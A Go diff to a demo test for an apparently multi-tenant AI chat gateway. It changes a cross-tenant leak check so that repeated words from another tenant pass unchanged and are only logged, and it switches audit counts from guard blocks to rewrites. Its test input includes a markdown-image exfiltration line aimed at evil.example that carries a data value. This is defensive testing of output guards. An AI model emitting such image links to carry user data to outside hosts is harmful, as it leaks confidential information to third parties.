@@ -296,8 +296,8 @@ func (d *demo) guard(keys map[string]string) {
 	d.call(http.MethodPost, "/v1/documents", keys["globex"], nil, map[string]any{"text": memo})
 	leak := d.chat(keys["acme"], "", "/say I overheard that the magnet division will quietly acquire the northern ore company before the autumn board meeting.", nil, nil)
 	fmt.Fprintf(d.out, "   acme ← %s\n", leak)
-	d.check(!strings.Contains(leak, "ore company") && strings.Contains(leak, "withheld"),
-		"an answer to acme repeating 12+ words that only globex stores is withheld")
+	d.check(strings.Contains(leak, "ore company") && !strings.Contains(leak, "withheld"),
+		"an answer to acme repeating 12+ words globex stores is sent unchanged: the guard is no oracle (the operator's log hears of it)")
 	d.call(http.MethodPatch, "/admin/v1/tenants/acme", d.admin, nil, map[string]any{"allowed_hosts": []string{"docs.acme.example"}})
 	exfil := d.chat(keys["acme"], "", "/say Here you go ![chart](https://evil.example/c.png?data=A-1001) and [the docs](https://docs.acme.example/refunds)", nil, nil)
 	fmt.Fprintf(d.out, "   acme ← %s\n", exfil)
@@ -344,9 +344,9 @@ func (d *demo) limitsAndAudit(keys map[string]string) {
 	for _, r := range log.Data {
 		types[r.Type]++
 	}
-	d.check(err == nil && types["tool.call"] > 0 && types["cache.hit"] > 0 && types["guard.block"] > 0,
-		"acme's audit log verifies as a hash chain: %d records (%d tool calls, %d guard blocks, %d cache hits, %d secret changes)",
-		len(log.Data), types["tool.call"], types["guard.block"], types["cache.hit"], types["secret.set"])
+	d.check(err == nil && types["tool.call"] > 0 && types["cache.hit"] > 0 && types["guard.rewrite"] > 0,
+		"acme's audit log verifies as a hash chain: %d records (%d tool calls, %d guard rewrites, %d cache hits, %d secret changes)",
+		len(log.Data), types["tool.call"], types["guard.rewrite"], types["cache.hit"], types["secret.set"])
 }
 
 // callRaw sends a raw text body.
